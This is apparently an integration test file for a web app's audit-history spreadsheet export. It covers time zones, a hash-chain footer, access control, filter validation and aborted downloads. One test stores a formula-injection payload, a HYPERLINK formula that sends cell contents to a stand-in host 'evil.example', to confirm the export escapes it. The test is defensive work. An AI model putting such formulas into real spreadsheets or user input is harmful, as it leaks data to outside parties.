import { request } from 'node:http';
import exceljs from 'exceljs';
import { sql } from 'drizzle-orm';
import { text } from '@server/db/rows/row-shapes';
import { selectRows } from '@server/db/rows/rows';
import { aPosition } from '@test/factories/structure.factory';
import { aUser } from '@test/factories/user.factory';
import { startTestApp, type TestApp } from '@test/helpers/app';
import { register, type Registered } from '@test/helpers/worlds/registration';

let t: TestApp;
let owner: Registered;

beforeAll(async () => {
  t = await startTestApp();
  owner = await register(t);
}, 60_000);
afterAll(() => t.stop());

const get = (token: string | null, query: Record<string, string> = {}) =>
  fetch(`${t.url}/api/history.xlsx?${String(new URLSearchParams(query))}`, {
    headers: token === null ? {} : { 'x-session-token': token },
  });

async function sheetOf(response: Response): Promise<exceljs.Worksheet> {
  expect(response.status).toBe(200);
  const book = new exceljs.Workbook();
  await book.xlsx.load(await response.arrayBuffer());
  const [sheet] = book.worksheets;
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

/** Rows of a position's history, some with problematic values. */
async function write(count: number, name = 'Кассир'): Promise<number> {
  return t.app.database.system(async (tx) => {
    const { organizationId, userId } = owner;
    const { id } = await aPosition(tx, { organizationId, name });
    await tx.execute(sql`
      insert into audit_log (organization_id, at, actor_id, action, object_type, object_id, changes, ip)
      select ${organizationId}, timestamptz '2026-03-01 20:59:30Z' + n * interval '1 second', ${userId}, 'update', 'position',
             ${id}, jsonb_build_object('name', jsonb_build_array('было ' || n, ${name}::text)), '10.0.0.1'
      from generate_series(1, ${count}) n`);
    return id;
  });
}

test('the file contains what the filter finds, with real dates in the organization’s time zone', async () => {
  await write(2_300);
  const march = { dateFrom: '2026-03-01', dateTo: '2026-03-01' };
  const sheet = await sheetOf(await get(owner.token, march));
  // Moscow's day ends at 21:00 UTC: 29 of the rows belong to the first of March.
  expect(sheet.rowCount).toBe(30);
  expect(sheet.getCell('A1').value).toBe('Дата и время');
  expect(sheet.getCell('A2').value).toEqual(new Date('2026-03-01T23:59:59Z'));
  expect(sheet.getCell('A2').numFmt).toBe('dd.mm.yyyy hh:mm');
  expect(sheet.getCell('C2').value).toBe('Изменение');
  expect(sheet.getCell('D2').value).toBe('Должность');
  expect(sheet.getCell('E2').value).toBe('Кассир');
  expect(sheet.getCell('G2').value).toBe('Название: было 29 → Кассир');
  const whole = await sheetOf(await get(owner.token, { section: 'structure' }));
  expect(whole.rowCount).toBe(2_301);
});

test('the English file opens too: spreadsheets reserve the name «History»', async () => {
  const response = await fetch(`${t.url}/api/history.xlsx`, {
    headers: { 'x-session-token': owner.token, 'accept-language': 'en-US' },
  });
  const sheet = await sheetOf(response);
  expect(sheet.name).toBe('Change history');
  expect(sheet.getCell('A1').value).toBe('Date and time');
  // Below each printed page, so that paper can be compared with the chain.
  expect(sheet.headerFooter.oddFooter).toMatch(/^Latest fingerprint: [\da-f]{64}$/);
});

test('a text that looks like a formula stays a text', async () => {
  const attack = '=HYPERLINK("http://evil.example/?"&A1,"смотри")';
  await write(1, attack);
  const sheet = await sheetOf(await get(owner.token, { section: 'structure' }));
  const cells = ['E', 'G'].flatMap((column) => {
    const values: exceljs.Cell[] = [];
    sheet.getColumn(column).eachCell((cell) => values.push(cell));
    return values;
  });
  expect(cells.some(({ value }) => value === attack)).toBe(true);
  expect(cells.filter(({ type }) => type === exceljs.ValueType.Formula)).toEqual([]);
});

test('the end of the chain is below the sheet, and the export is recorded in the history', async () => {
  const sheet = await sheetOf(await get(owner.token));
  const rows = await t.app.database.system((tx) =>
    selectRows(tx, { hash: text })(sql`
      select encode(k.hash, 'hex') as hash from audit_link k where k.organization_id = ${owner.organizationId}`),
  );
  const hash = /[0-9a-f]{64}/.exec(sheet.headerFooter.oddFooter ?? '')?.[0];
  expect(rows.map((row) => row.hash)).toContain(hash);
  const { rows: exports } = await t.app.database.system((tx) =>
    tx.execute(sql`select 1 from audit_log where action = 'export' and actor_id = ${owner.userId}`),
  );
  expect(exports.length).toBeGreaterThan(0);
});

test('an employee gets a file about themselves alone; a stranger gets none', async () => {
  const person = await t.app.database.system((tx) => aUser(tx, { organizationId: owner.organizationId }));
  await t.gql(owner.token, `mutation ($user: UserInput!) { userUpdate(user: $user) { id } }`, {
    user: { id: person.id, info: 'О себе' },
  });
  const sheet = await sheetOf(await get(await t.signIn(person.id)));
  expect(sheet.rowCount).toBe(2);
  expect(sheet.getCell('H2').value).toBeFalsy();
  expect((await get(null)).status).toBe(401);
});

test('an invalid filter is rejected', async () => {
  const queries: Record<string, string>[] = [
    { section: 'everything' },
    { dateFrom: 'yesterday' },
    { actorId: '-1' },
    { actions: 'steal' },
  ];
  for (const query of queries) {
    const response = await get(owner.token, query);
    expect([response.status, await response.text()]).toEqual([
      400,
      expect.stringContaining('validation.option'),
    ]);
  }
});

test('an aborted download has no side effects', async () => {
  await new Promise<void>((resolve, reject) => {
    const headers = { 'x-session-token': owner.token };
    const call = request(`${t.url}/api/history.xlsx`, { headers }, (response) => {
      response.destroy();
      resolve();
    });
    call.on('error', reject).end();
  });
  expect((await sheetOf(await get(owner.token))).rowCount).toBeGreaterThan(1);
});
